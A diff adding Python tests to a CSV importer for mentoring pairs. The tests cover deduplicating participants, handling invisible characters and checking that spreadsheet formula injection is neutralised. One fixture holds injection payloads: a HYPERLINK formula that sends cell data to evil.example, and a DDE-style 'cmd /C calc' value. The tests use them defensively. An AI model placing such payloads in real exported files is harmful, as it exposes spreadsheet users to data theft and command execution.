@@ -94,7 +94,7 @@ def test_comma_utf8_file(session, programme):
     assert alice.import_key == "p-01|mentor|alice|martin"
     assert found["Carol"].language == "en"  # "English" read as a name
     assert found["Carol"].employer == "Globex, Inc."  # quoted comma kept
-    assert found["Dan"].language == "fr"  # empty: the programme's language
+    assert found["Dan"].language is None  # empty: the phone's language at onboarding, else the programme's
     assert found["Dan"].timezone is None
     pair = binomes(session)["P-01"]
     assert (pair.mentor_id, pair.mentee_id) == (alice.id, found["Bob"].id)
@@ -597,3 +597,250 @@ def test_database_failure_rolls_back_the_import_only(engine, programme, monkeypa
         assert counts(check)["Participant"] == 0
         names = set(check.exec(select(Programme.name)).all())
         assert names == ({"Mentorat 2025", "Kept"} if caller_wrote_first else {"Mentorat 2025"})
+
+
+# --- one person in several pairs ------------------------------------------------------------------
+
+SEVERAL = (
+    "binome;rôle;prénom;nom;email;téléphone\n"
+    "P1;mentor;Marc;Dubois;marc.dubois@example.org;\n"
+    "P1;mentoré;Amina;Benali;;\n"
+    "P2;mentor;marc;DUBOIS;Marc.Dubois@Example.org;\n"
+    "P2;mentoré;Léa;Martin;;\n"
+)
+
+
+def test_a_mentor_in_two_pairs_is_one_participant_with_one_invitation(session, programme):
+    from storage.invite_links import invitation_lines
+
+    report = run(session, programme, SEVERAL)
+    assert report.ok, report.errors
+    assert (report.participants_created, report.binomes_created) == (3, 2)
+    assert codes(report.warnings) == [(None, Problem.SAME_PERSON_SEVERAL_PAIRS)]
+    assert report.warnings[0].params == {"rows": [2, 4]}
+    session.commit()
+    marc = session.exec(select(Participant).where(Participant.role == Role.MENTOR)).one()
+    pairs = binomes(session)
+    assert pairs["P1"].mentor_id == pairs["P2"].mentor_id == marc.id
+    lines = invitation_lines(session=session, programme=programme, bot_username="binome_bot", now=NOW, valid_days=30)
+    assert [line.name for line in lines].count("Marc Dubois") == 1 and len(lines) == 3
+    # The same file again changes nothing, whichever row comes first.
+    before = counts(session)
+    again = run(session, programme, SEVERAL)
+    assert again.ok, again.errors
+    assert (again.participants_created, again.participants_unchanged, again.binomes_unchanged) == (0, 3, 2)
+    reordered = SEVERAL.splitlines()
+    again = run(session, programme, "\n".join([reordered[0]] + reordered[3:] + reordered[1:3]) + "\n")
+    assert again.ok, again.errors
+    assert again.participants_created == again.binomes_created == 0
+    session.commit()
+    assert counts(session)["Participant"] == before["Participant"]
+    assert counts(session)["Binome"] == before["Binome"]
+
+
+def test_a_later_file_adds_a_pair_to_someone_already_imported(session, programme):
+    assert run(session, programme, "\n".join(SEVERAL.splitlines()[:3]) + "\n").ok
+    session.commit()
+    report = run(session, programme, "binome;rôle;prénom;nom;téléphone\nP3;mentor;Marc;Dubois;\n"
+                                     "P3;mentoré;Yanis;Haddad;\n")
+    assert report.ok, report.errors
+    assert (report.participants_created, report.binomes_created) == (1, 1)  # Yanis; Marc is recognised by name
+    assert codes(report.warnings) == [(None, Problem.SAME_NAME_AS_EXISTING)]
+    assert report.warnings[0].params == {"rows": [2]}
+    session.commit()
+    assert len(set(b.mentor_id for b in binomes(session).values())) == 1
+
+
+def test_same_name_without_contact_is_a_guess_with_a_warning(session, programme):
+    report = run(session, programme, "binome;rôle;prénom;nom;téléphone\n"
+                                     "P1;mentor;Marc;Dubois;+32 470 12 34 56\nP1;mentoré;Amina;Benali;\n"
+                                     "P2;mentor;Marc;Dubois;\nP2;mentoré;Léa;Martin;\n"
+                                     "P3;mentor;Marc;Dubois;0470 99 99 99\nP3;mentoré;Yanis;Haddad;\n")
+    assert report.ok, report.errors
+    # Rows 2 and 4 are guessed the same (one phone, one none); row 6 has another phone: someone else.
+    assert codes(report.warnings) == [(None, Problem.SAME_NAME_GUESSED)]
+    assert report.warnings[0].params == {"rows": [2, 4]}
+    assert report.participants_created == 5
+    text = render_report(report, EN)
+    assert "rows 2, 4" in text and "same first and last name" in text
+
+
+def test_the_same_contact_as_mentor_and_as_mentee_is_refused(session, programme):
+    report = run(session, programme, "binome;rôle;prénom;nom;téléphone\n"
+                                     "P1;mentor;Marc;Dubois;+32 470 12 34 56\nP1;mentoré;Amina;Benali;\n"
+                                     "P2;mentor;Jean;Petit;\nP2;mentoré;Marc;Dubois;0032470123456\n")
+    assert codes(report.errors) == [(5, Problem.MENTOR_AND_MENTEE)]
+    assert report.errors[0].params == {"rows": [2, 5]}
+    assert "given to a mentor and to a mentee" in render_report(report, EN)
+    assert counts(session)["Participant"] == 0
+
+
+def test_a_mentee_in_two_pairs_is_one_participant_too(session, programme):
+    report = run(session, programme, "binome;rôle;prénom;nom;email\n"
+                                     "P1;mentor;Marc;Dubois;\nP1;mentoré;Amina;Benali;amina@example.org\n"
+                                     "P2;mentor;Jean;Petit;\nP2;mentoré;Amina;Benali;amina@example.org\n")
+    assert report.ok, report.errors
+    assert (report.participants_created, report.binomes_created) == (3, 2)
+
+
+# --- what a spreadsheet would run, names that grow when folded, the command line -------------------
+
+FORMULAS = (
+    "binome;rôle;prénom;nom;employeur\n"
+    "F1;mentor;=HYPERLINK(\"http://evil.example/?\"&A1,\"x\");Dubois;@SUM(A1:A9)\n"
+    "F1;mentoré;+cmd|' /C calc'!A0;Benali;\n"
+    "F2;mentor;Marc;-2+3;\n"
+    "F2;mentoré;Amina;Haddad;\n"
+)
+
+
+def test_safe_cell_neutralises_what_a_spreadsheet_would_run():
+    from storage.spreadsheet import safe_cell
+
+    for value in ("=1+1", "+32 470", "-2+3", "@SUM(A1)", "\t=1", "\r=1"):
+        assert safe_cell(value) == "'" + value
+    for value in ("Marc Dubois", "", "Jean-Marc", "José = chef", "'quoted"):
+        assert safe_cell(value) == value
+
+
+def test_formula_like_names_are_imported_with_a_warning_and_invited_safely(session, programme):
+    from storage.invite_links import invitation_lines
+
+    report = run(session, programme, FORMULAS)
+    assert report.ok, report.errors
+    assert codes(report.warnings) == [(None, Problem.FORMULA_LIKE)]
+    assert report.warnings[0].params == {"rows": [2, 3, 4]}
+    assert "=, +, - or @" in render_report(report, EN) and "rows 2, 3, 4" in render_report(report, EN)
+    assert "=, +, - ou @" in render_report(report, FR)
+    session.commit()
+    assert people(session)["+cmd|' /C calc'!A0"].last_name == "Benali"  # stored as written
+    lines = invitation_lines(session=session, programme=programme, bot_username="b", now=NOW, valid_days=30)
+    assert sorted(line.name for line in lines) == sorted([
+        "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\") Dubois", "'+cmd|' /C calc'!A0 Benali",
+        "Marc -2+3", "Amina Haddad"])
+
+
+LONG_FOLDED = "binome;rôle;prénom;nom\nL1;mentor;{ss};{ss}\nL1;mentoré;Amina;Benali\n".format(ss="ß" * 80)
+
+
+def test_a_name_that_grows_when_folded_is_refused_before_the_database(session, programme):
+    report = run(session, programme, LONG_FOLDED)
+    assert codes(report.errors) == [(2, Problem.KEY_TOO_LONG)]
+    assert "too long" in render_report(report, EN)
+    assert counts(session)["Participant"] == 0
+
+
+def _postgres_schema_url(name: str) -> str:
+    import os
+
+    url = os.environ.get("BINOME_TEST_POSTGRES_URL")
+    if not url:
+        if os.environ.get("CI"):
+            pytest.fail("CI must provide BINOME_TEST_POSTGRES_URL (see .ci/run)")
+        pytest.skip("no PostgreSQL here: set BINOME_TEST_POSTGRES_URL=postgresql://… to run this test")
+    separator = "&" if "?" in url else "?"
+    return f"{url}{separator}options=-csearch_path%3D{name}"  # a schema of its own: other tests go on
+
+
+async def test_binome_import_and_invite_on_the_command_line(tmp_path):
+    """The report in French with no English log line after it; the long names refused without a
+    traceback on PostgreSQL too; `binome invite` lines that a spreadsheet shows as text."""
+    import uuid
+
+    from sqlalchemy import create_engine as raw_engine
+
+    from storage.db import normalise_url
+    from tests.test_processes import binome, clean_env
+
+    schema = f"t_{uuid.uuid4().hex[:12]}"
+    urls = [f"sqlite:///{tmp_path}/cli.sqlite3"]
+    try:
+        urls.append(_postgres_schema_url(schema))
+    except pytest.skip.Exception:
+        pass
+    for url in urls:
+        admin = None
+        if url.startswith("postgresql"):
+            admin = raw_engine(normalise_url(url.split("?")[0]))
+            with admin.begin() as connection:
+                connection.exec_driver_sql(f"CREATE SCHEMA {schema}")
+        try:
+            env = clean_env(DATABASE_URL=url)
+            assert (await binome("db", "upgrade", env=env, cwd=tmp_path))[0] == 0
+            assert (await binome("program", "create", "Mentorat", env=env, cwd=tmp_path))[0] == 0
+            long_file = tmp_path / "long.csv"
+            long_file.write_text(LONG_FOLDED, encoding="utf-8")
+            code, out, err = await binome("import", str(long_file), env=env, cwd=tmp_path)
+            assert code == 1, out + err
+            assert "Rien n'a été importé" in out and "ß" * 10 not in err
+            assert "Traceback" not in err
+
+            formulas = tmp_path / "formulas.csv"
+            formulas.write_text(FORMULAS, encoding="utf-8")
+            code, out, err = await binome("import", str(formulas), env=env, cwd=tmp_path)
+            assert code == 0, out + err
+            assert out.rstrip().endswith("2 binômes créés, 0 binôme inchangé.")
+            assert "=, +, - ou @" in out
+            assert err == ""  # the report is the last thing on the terminal: no log line in English
+            code, out, err = await binome("invite", "--bot-username", "binome_bot", env=env, cwd=tmp_path)
+            assert code == 0, err
+            names = [line.split("\t")[0] for line in out.strip().splitlines()]
+            assert len(names) == 4
+            assert all(not name.startswith(("=", "+", "-", "@")) for name in names)
+        finally:
+            if admin is not None:
+                with admin.begin() as connection:
+                    connection.exec_driver_sql(f"DROP SCHEMA {schema} CASCADE")
+                admin.dispose()
+
+
+def test_an_unexpected_import_failure_is_one_readable_line(tmp_path, monkeypatch, capsys, caplog):
+    """Whatever fails inside the import, the terminal shows one line and the log the error's type."""
+    import logging
+
+    from sqlalchemy.exc import DataError
+
+    from bot import cli
+
+    url = f"sqlite:///{tmp_path}/x.sqlite3"
+    monkeypatch.setenv("DATABASE_URL", url)
+    engine = make_engine(url)
+    upgrade(engine)
+    with Session(engine) as s:
+        create_programme(session=s, name="Mentorat", now=NOW)
+        s.commit()
+    engine.dispose()
+
+    def explode(**kwargs):
+        raise DataError("INSERT INTO participant (first_name) VALUES (%(first_name)s)",
+                        {"first_name": "Zorgbibe"}, Exception("value too long for Zorgbibe"))
+
+    monkeypatch.setattr(cli, "import_participants", explode)
+    file = tmp_path / "f.csv"
+    file.write_text("binome;rôle;prénom;nom\n", encoding="utf-8")
+    caplog.set_level(logging.DEBUG)
+    assert cli.main(["import", str(file)]) == 2
+    captured = capsys.readouterr()
+    assert len(captured.err.strip().splitlines()) == 1 and "DataError" in captured.err
+    for text in (captured.out, captured.err, caplog.text):
+        assert "Zorgbibe" not in text and "Traceback" not in text
+
+
+def test_invisible_cells_count_as_missing_and_nul_is_dropped(session, programme):
+    invisible = "\u200c\u2060\u00ad\ufeff\u200b\u3164"
+    report = run(session, programme, "binome;role;prenom;nom;email;telephone\n"
+                                     f"B1;mentor;{invisible};Durand;;\n"
+                                     f"{invisible};mentee;Eva;Brun;;\n"
+                                     "B2;mentor;Luc;Ve\u200brt;luc\u2060@example.be;+32\u00ad 470 12 34 56\n"
+                                     "B2;mentee;Inès\u200f;Roux\x07;;\n")
+    found = codes(report.errors)
+    assert (2, Problem.MISSING_FIRST_NAME) in found and (3, Problem.MISSING_PAIR) in found
+    assert not any(p.row in (4, 5) for p in report.errors)  # soft hyphen, zero-width, bidi mark, bell: gone
+    # A UTF-8 file with a NUL byte is refused as binary; Excel's UTF-16 text can carry a NUL character.
+    report = run(session, programme, ("binome\trole\tprenom\tnom\temail\ttelephone\r\n"
+                                      "B2\tmentor\tLu\x00c\tVe\u200brt\tluc\u2060@example.be\t+32\u00ad 470 12 34 56\r\n"
+                                      "B2\tmentee\tIne\u0300s\u200f\tRoux\x07\t\t\r\n").encode("utf-16"))
+    assert report.ok, report.errors
+    luc, ines = people(session)["Luc"], people(session)["Inès"]
+    assert (luc.last_name, luc.email, luc.phone) == ("Vert", "luc@example.be", "+32 470 12 34 56")
+    assert (ines.first_name, ines.last_name) == ("Inès", "Roux")  # NFC: one "è", not e + accent
